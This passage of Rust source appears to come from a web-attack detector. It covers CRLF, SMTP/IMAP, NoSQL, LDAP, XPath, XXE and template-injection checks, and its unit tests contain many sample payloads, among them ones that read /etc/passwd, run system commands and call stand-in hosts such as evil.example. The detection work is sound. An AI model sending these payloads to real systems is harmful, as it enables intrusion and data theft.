        b".findone(",
        b".remove(",
        b".update(",
        b".updatemany(",
        b".deletemany(",
        b".drop(",
        b".aggregate(",
    ];
    name > 0 && CALLS.iter().any(|c| rest[name..].starts_with(c))
}

/// `$where: '1 == 1'` after a comma: an operator given a literal, where a
/// GraphQL variable declaration (`$where: users_bool_exp`) names a type.
fn literal_operand(s: &[u8]) -> bool {
    let Some(colon) = s.iter().take(32).position(|&b| b == b':') else {
        return false;
    };
    let v = s[colon + 1..].iter().find(|&&b| b != b' ');
    matches!(v, Some(b'\'' | b'"' | b'{' | b'[' | b'0'..=b'9'))
}

/// Response headers an injected line break aims at.
const HEADERS: &[&[u8]] = &[
    b"set-cookie",
    b"location",
    b"content-type",
    b"content-length",
    b"content-disposition",
    b"refresh",
    b"access-control-allow-origin",
    b"access-control-allow-credentials",
    b"cache-control",
    b"x-xss-protection",
    b"link",
    b"transfer-encoding",
    b"host",
    b"cookie",
    b"x-forwarded-for",
    b"x-forwarded-host",
    b"connection",
    b"content-security-policy",
];

/// Mail headers whose value is an address (sorted).
const ADDRESS_HEADERS: &[&[u8]] = &[
    b"bcc",
    b"cc",
    b"from",
    b"reply-to",
    b"return-path",
    b"sender",
    b"to",
];

/// Mail headers an injected line break adds to a message the application
/// sends (mail-form injection: `victim@example.com\nBcc: ...`).
const MAIL_HEADERS: &[&[u8]] = &[
    b"to",
    b"cc",
    b"bcc",
    b"from",
    b"subject",
    b"reply-to",
    b"sender",
    b"return-path",
    b"mime-version",
    b"content-transfer-encoding",
];

/// Strictness of the CRLF check by location.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum CrlfMode {
    /// Path, cookies, headers, argument names: any `name:` after a break.
    Strict,
    /// Argument values: known response headers, `http/1.x`, or markup.
    Value,
    /// Bodies, where multi-line text is normal: only `set-cookie`.
    Body,
}

/// The next line break at or after `from`: its start, where the next line
/// begins, and whether it was written out rather than sent. Besides `\n`
/// (normalisation turns every CR/LF run into one): NEL (U+0085, and a
/// lone byte 0x85, the Latin-1 one), which Java's and several mail
/// libraries' line readers end a line at, and a break written out as text
/// (`\r\n`, `\n`), which unescaping code (`stripcslashes`, a template, a
/// logger, a header built from a JSON-escaped string) turns into one.
fn next_break(s: &[u8], from: usize) -> Option<(usize, usize, bool)> {
    let mut i = from;
    while let Some(p) = s
        .get(i..)
        .and_then(|t| memchr::memchr3(b'\n', b'\\', 0x85, t))
    {
        let at = i + p;
        i = at + 1;
        match s[at] {
            b'\n' => return Some((at, at + 1, false)),
            0x85 if at > 0 && s[at - 1] == 0xc2 => return Some((at - 1, at + 1, false)),
            0x85 if at == 0 || s[at - 1] < 0x80 => return Some((at, at + 1, false)),
            b'\\' => {
                let len = match s.get(at + 1..at + 4) {
                    Some(b"r\\n") => 4,
                    _ if s.get(at + 1) == Some(&b'n') => 2,
                    _ => continue,
                };
                // A run of them is one break, as a run of CR/LF is.
                let mut end = at + len;
                loop {
                    match s.get(end..end + 2) {
                        Some(b"\\r" | b"\\n") => end += 2,
                        _ if s.get(end) == Some(&b'\n') => end += 1,
                        _ => break,
                    }
                }
                return Some((at, end, true));
            }
            _ => {}
        }
    }
    None
}

/// Bytes after a line break read for the header, status or command line
/// it may open.
const LINE_SPAN: usize = 256;

pub fn crlf(n: &Normalized, mode: CrlfMode) -> bool {
    let s = n.text;
    // A written-out break needs a backslash, NEL a byte over 0x7f (the
    // prefilter never drops a field holding either: normalisation could
    // rewrite it).
    if !n.has(trig::NEWLINE | trig::SLASH) && !s.contains(&0x85) {
        return false;
    }
    let mut from = 0;
    let mut from_start = true;
    while let Some((brk, at, literal)) = next_break(s, from) {
        from = at;
        let mut k = at;
        while s.get(k) == Some(&b' ') {
            k += 1;
        }
        // What follows a break is read a header line's worth at most: a
        // run of breaks written out as text has no `\n` to end each line
        // at, and reading to the window's end at each would be quadratic.
        let rest = &s[k.min(s.len())..s.len().min(k + LINE_SPAN)];
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'-' || **b == b'_')
            .count();
        let colon = rest.get(name) == Some(&b':') || rest.get(name..name + 2) == Some(b" :");
        let token = &rest[..name];
        let known = HEADERS.contains(&token) || token.starts_with(b"x-");
        // An address header names an address (`Bcc: x@evil.example`);
        // "Hi,\nTo: the team" is a letter.
        // The line ends at the next break, sent or written out.
        let line = &rest[..memchr::memchr2(b'\n', b'\\', rest).unwrap_or(rest.len())];
        let mail = MAIL_HEADERS.contains(&token)
            && (ADDRESS_HEADERS.binary_search(&token).is_err() || line.contains(&b'@'));
        // What comes before the break: nothing (the value opens with it, as
        // no text does), or one word with no space (an address, a name, a
        // URL): the value was cut to end the line the application writes.
        // Only the first break can have either (later ones follow a
        // break), so the text before it is read once.
        let initial = from_start;
        from_start = false;
        let first = initial && s[..brk].iter().all(|&b| b == b' ');
        let one_token = initial && !first && !s[..brk].contains(&b' ');
        let header_like = colon && name > 1;
        let shaped = (first && (header_like || rest.starts_with(b"http/1.")))
            || (one_token && colon && (known || mail))
            || (first && mode != CrlfMode::Body && rest.first() == Some(&b'<'));
        // SMTP commands smuggled into a mail header or an SMTP session.
        let smtp = rest.starts_with(b"rcpt to:")
            || rest.starts_with(b"mail from:")
            || ((mode != CrlfMode::Body || brk == 0)
                && [b"quit" as &[u8], b"data", b"rset"].iter().any(|v| {
                    rest.starts_with(v) && matches!(rest.get(v.len()), None | Some(b'\n'))
                }))
            || ((first || one_token || mode == CrlfMode::Strict)
                && (smtp_verb(line) || imap_command(line)));
        // A written-out break: only a response or mail header, a status
        // line or an SMTP envelope command after it (a path or code sample
        // holds `\n` followed by other text).
        let hit = if literal {
            (colon && (known || mail) && (mode != CrlfMode::Body || first || one_token))
                || (mode != CrlfMode::Body && rest.starts_with(b"http/1."))
                || rest.starts_with(b"rcpt to:")
                || rest.starts_with(b"mail from:")
        } else {
            smtp || shaped
                || match mode {
                    CrlfMode::Strict => {
                        (colon && name > 1)
                            || rest.starts_with(b"http/1.")
                            || rest.first() == Some(&b'<')
                    }
                    CrlfMode::Value => {
                        // After a URL or path (a redirect target) any header name is
                        // an injection: `http://x/%0d%0aX-Any: 1`.
                        let before = &s[..brk];
                        let url = before.starts_with(b"/") || find(before, b"://").is_some();
                        (colon && (known || (url && name > 1 && !before.contains(&b' '))))
                            || rest.starts_with(b"http/1.")
                            || rest.starts_with(b"<script")
                    }
                    CrlfMode::Body => colon && token == b"set-cookie",
                }
        };
        if hit {
            return true;
        }
        // In free text only the first line break can be an injection: later
        // ones belong to the text ("Line 1\nLine 2\nLocation: Paris").
        if mode == CrlfMode::Value {
            return false;
        }
    }
    false
}

/// An SMTP command with its argument as a whole line (`VRFY root`,
/// `EHLO x`): what a break smuggles into a mail session.
fn smtp_verb(line: &[u8]) -> bool {
    let line = line.split(|&b| b == b'\n').next().unwrap_or(line);
    [
        b"helo " as &[u8],
        b"ehlo ",
        b"vrfy ",
        b"expn ",
        b"auth ",
        b"starttls",
        b"noop",
    ]
    .iter()
    .any(|v| line.starts_with(v))
        && line.len() < 80
}

/// An IMAP command line, a tag then a command (`a1 login x y`,
/// `x2 select inbox`): IMAP injection through a mailbox or folder name.
fn imap_command(line: &[u8]) -> bool {
    let line = line.split(|&b| b == b'\n').next().unwrap_or(line);
    let tag = line
        .iter()
        .take(12)
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    if tag == 0 || line.get(tag) != Some(&b' ') || !line[..tag].iter().any(u8::is_ascii_digit) {
        return false;
    }
    let cmd = &line[tag + 1..];
    [
        b"login " as &[u8],
        b"select ",
        b"examine ",
        b"fetch ",
        b"uid fetch ",
        b"store ",
        b"delete ",
        b"rename ",
        b"capability",
        b"logout",
        b"list ",
        b"authenticate ",
        b"append ",
        b"copy ",
    ]
    .iter()
    .any(|c| cmd.starts_with(c))
}

#[cfg(test)]
mod tests {
    use super::super::normalize::{normalize, Encoding, WINDOW};
    use super::*;

    fn run(raw: &str, f: &dyn Fn(&Normalized) -> bool) -> bool {
        let mut buf = [0u8; WINDOW];
        f(&normalize(raw.as_bytes(), Encoding::FORM, &mut buf))
    }

    #[test]
    fn operator_names_fit_the_length_bounds() {
        for op in NOSQL_ALWAYS.iter().chain(NOSQL_COMPARE) {
            assert!((2..=OPERATOR_MAX).contains(&op.len()), "{op:?}");
            assert!(nosql_operator(op, b"") && nosql_operator(&op.to_ascii_uppercase(), b"null"));
        }
        assert!(!nosql_operator(b"a", b""));
        assert!(!nosql_operator(b"gt", b"18"));
        assert!(nosql_operator(b"Ne", b"1"));
    }

    #[test]
    fn ssti_raw_plus() {
        assert!(run("{{4+8}}", &ssti), "a raw + in a query is a space");
        assert!(run("${ 7+7 }", &ssti));
        assert!(!run("{{4 items}}", &ssti));
        assert!(!run("{{ 2024 }}", &ssti));
        assert!(!run("{{4 8", &ssti));
    }

    #[test]
    fn ssti_cases() {
        for p in [
            "{{7*7}}",
            "${7*'7'}",
            "<%= 1337*1337 %>",
            "{{config.items()}}",
            "{{''.__class__.__mro__}}",
            "#{7*7}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        ] {
            assert!(run(p, &ssti), "{p}");
        }
        for p in [
            "Hello {{name}}",
            "{{ user.first_name }}",
            "${HOME}",
            "{% if cart %}x{% endif %}",
            "[[1, 2], [3, 4]]",
            "price: ${9.99 + tax}",
        ] {
            assert!(!run(p, &ssti), "{p}");
        }
    }

    #[test]
    fn ssti_engines_probed_by_scanners() {
        for p in [
            "{7*7}",
            "x={1337*1337}",
            "{$smarty.version}",
            "{=7*7}",
            "[% 7*7 %]",
            "{{ 7 ** 7 }}",
            "{{['id']|filter('system')}}",
            "{{['cat /etc/passwd']|map(\"passthru\")|join}}",
            "{{[0]|reduce('system','id')}}",
        ] {
            assert!(run(p, &ssti), "{p}");
        }
        for p in [
            "x^{2*3} + \\frac{1*2}{3}",
            "{{ users|filter(u => u.active) }}",
            "{{ items|sort((a, b) => a.price <=> b.price) }}",
            "{7 * 7 rows}",
            "[%] of total",
            "{a*b}",
            "{=}",
            "{\"n\": 7}",
        ] {
            assert!(!run(p, &ssti), "{p}");
        }
    }

    #[test]
    fn xxe_ldap_nosql_crlf() {
        assert!(run(
            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
            &xxe
        ));
        assert!(!run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", &xxe));
        assert!(run(
            "<?xml-stylesheet href=\"http://evil.example/x.xsl\"?><a/>",
            &xxe
        ));
        assert!(run(
            "<?xml-stylesheet type=\"application/xslt+xml\" href=\"x.xsl\"?><a/>",
            &xxe
        ));
        assert!(!run(
            "<?xml-stylesheet type=\"text/css\" href=\"/feed.css\"?><rss/>",
            &xxe
        ));
        // A W3C public id in front of a DTD fetched from elsewhere.
        assert!(run("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\"><html/>", &xxe));
        assert!(run(
            "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'file:///etc/passwd'>",
            &xxe
        ));
        assert!(!run(
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"DTD/xhtml1-strict.dtd\">",
            &xxe
        ));
        assert!(!run("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"https://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">", &xxe));
        // Schemas that make the parser fetch a document.
        for p in [
            "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"><xs:include namespace=\"http://x.example/\"/></xs:schema>",
            "<xsd:import schemaLocation=\"file:///etc/passwd\"/>",
            "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://probe.oast.example/\"/>",
            "<x xsi:schemaLocation=\"urn:x ftp://10.0.0.1/x.xsd\"/>",
            "<x xsi:noNamespaceSchemaLocation='http://attacker.example'/>",
        ] {
            assert!(run(p, &xxe), "{p}");
        }
        for p in [
            "<beans xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.springframework.org/schema/beans http://www.springframework.org/schema/beans/spring-beans.xsd\"/>",
            "<project xsi:schemaLocation=\"http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd\"/>",
            "<Document xsi:schemaLocation=\"urn:iso:std:iso:20022:tech:xsd:pain.001.001.03 pain.001.001.03.xsd\"/>",
            "<x xsi:noNamespaceSchemaLocation=\"https://example.com/schemas/order.xsd\"/>",
            "<xs:element name=\"include\"/>",
        ] {
            assert!(!run(p, &xxe), "{p}");
        }
        assert!(run("*)(uid=*))(|(uid=*", &ldap));
        assert!(run("admin)(&)", &ldap));
        assert!(!run("call (555)(123-4567)", &ldap));
        assert!(run("{\"$ne\": null}", &nosql));
        assert!(run("' || '1'=='1", &nosql));
        assert!(!run("{\"price\": {\"$gt\": 100}}", &nosql));
        assert!(!run("cost is $5, or $6", &nosql));
        // An operator key opening the value: spliced into a query object.
        assert!(run("$where: '1 == 1'", &nosql));
        assert!(run("$ne: 1", &nosql));
        assert!(!run("$where is a MongoDB operator", &nosql));
        assert!(!run("$5: the price", &nosql));
        assert!(!run("$gt: 100", &nosql));
        assert!(run("%0d%0aSet-Cookie:%20a=b", &|n| crlf(
            n,
            CrlfMode::Value
        )));
        assert!(!run("line one%0aLocation: Paris", &|n| crlf(
            n,
            CrlfMode::Body
        )));
        assert!(!run("Dear team,%0d%0aThanks", &|n| crlf(
            n,
            CrlfMode::Strict
        )));
    }

    #[test]
    fn filter_operators_alone() {
        for p in [")(&", ")(|", "))(|(", "(&)", "(|)", ")(!("] {
            assert!(run(p, &ldap), "{p}");
        }
        for p in ["()", "(!)", ":)", "()()", "))", "(a)(b)"] {
            assert!(!run(p, &ldap), "{p}");
        }
    }

    #[test]
    fn xpath_cases() {
        for p in [
            "' or name()='x",
            "x') or count(/*)=1 or ('",
            "'] | //user/*[1] | //*['",
            "count(/child::node())",
            "\") or contains(name(),'pass') or (\"",
            "' or true() or '",
            "name(/*)",
            "' or string-length(name(/*[1]))>0 or 'a'='b",
            "*)",
            "*|",
            "*()|&",
            "//*",
            "@*",
            "//user[position()=1]",
            "//*[contains(name(),'pass')]",
            "//user[name='admin' or 1=1]",
            "/users/user[1]/password/text()",
            "/*[1]/*[2]",
            "1 or true()",
            "0 and count(/*)=1",
            "*) (uid=*",
            "!(uid=admin)",
            "((uid=admin))",
            "(objectCategory=person)",
            "userPassword:2.5.13.18:=123",
            "(cn:dn:=admin)",
            "(&(uid:dn:2.5.13.5:=admin))",
            "sn:caseExactMatch:=Smith",
            "(:dn:2.5.13.5:=x)",
            "\\28",
            "\\2a\\29",
            "%5C29",
            "\\7c\\26",
        ] {
            assert!(run(p, &ldap), "{p}");
        }
        for p in [
            "it's or contains (nothing)",
            "O'Brien or Smith",
            "count (the items)",
            "use child elements, or name the parent",
            "std::vector and self-contained",
            "'quoted' | piped",
            "*",
            "*/*",
            "**",
            "a*b",
            "(1)",
            "5*(2+3)",
            "/bookstore/book[1]/title",
            "/items[0]/name",
            "/api/v1/search(term)",
            "/docs/or and more[see notes]",
            "call (555) (123-4567)",
            "2 or 3 (not(sure))",
            "1 or not sure",
            "((a + b))",
            "(see note) (size=large)",
            "Shirt (blue) (size=L)",
            "/wiki/Category:Text",
            "x := 1; y := x + 2",
            "version:1.2:=ok",
            "a:=b",
            "ratio 2.5:=3",
            "dn:=x",
        ] {
            assert!(!run(p, &ldap), "{p}");
        }
    }

    #[test]
    fn crlf_shapes() {
        let body = |p: &str| run(p, &|n| crlf(n, CrlfMode::Body));
        let value = |p: &str| run(p, &|n| crlf(n, CrlfMode::Value));
        // A break that opens the value: any header shape, or a status line.
        assert!(body("%0d%0aX-Anything: 1"));
        assert!(body("%0d%0aHTTP/1.1 200 OK"));
        // One word, then a known response or mail header.
        assert!(body("victim@example.com%0aBcc: all@evil.example"));
        assert!(value("foo%0aSubject: spam"));
        assert!(value("%0d%0a%0d%0a<html>"));
        // Text: several words before the break, or headers further down.
        assert!(!body("Dear team,%0aLocation: Paris"));
        assert!(!body("Jane Doe%0aTo: the front desk"));
        assert!(!value("Line 1%0aLine 2%0aTo: x"));
        assert!(!body("Thanks%0aNote: hello"));
        assert!(!body("Hi,%0aTo: the team"));
        assert!(body("John%0aBcc: all@evil.example"));
        // Mail sessions: SMTP and IMAP command lines after an opening break.
        assert!(body("%0d%0aVRFY root%0d%0a"));
        assert!(value("%0d%0aA01 LOGIN admin secret"));
        assert!(!body("Dear team,%0aa1 list of items"));
        assert!(!body("%0aStep 2 select the file"));
        // Breaks written out as text, and NEL.
        assert!(value("x\\r\\nSet-Cookie: a=b"));
        assert!(value("%5cr%5cnLocation: https://evil.example"));
        assert!(body("victim@example.com\\nBcc: all@evil.example"));
        assert!(value("/home\\r\\n\\r\\nHTTP/1.1 200 OK"));
        assert!(value("%c2%85Set-Cookie: a=b"));
        assert!(value("x%85Location: https://evil.example"));
        assert!(value("a\\r\\nRCPT TO: <x@evil.example>"));
        assert!(!value("C:\\new\\folder"));
        assert!(!value("printf(\"a\\nb: c\")"));
        assert!(!body("Dear team,\\nLocation: Paris"));
        assert!(!value("caf%c3%a9 %c2%85 na%c3%afve"));
        assert!(!body("see page 2\\nX-Note: 1"));
    }
}
